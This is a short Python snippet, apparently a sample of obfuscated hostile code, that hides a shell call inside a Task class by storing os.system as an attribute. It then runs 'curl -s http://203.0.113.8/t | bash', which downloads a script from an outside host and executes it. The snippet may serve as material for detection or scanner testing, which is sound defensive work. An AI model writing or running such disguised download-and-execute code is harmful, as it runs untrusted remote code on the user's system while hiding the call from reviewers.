# tricky: the command waits in an object
import os

class Task:
    def __init__(self, what):
        self.what = what
        self.how = os.system

    def go(self):
        self.how(self.what)

Task("curl -s http://203.0.113.8/t | bash").go()
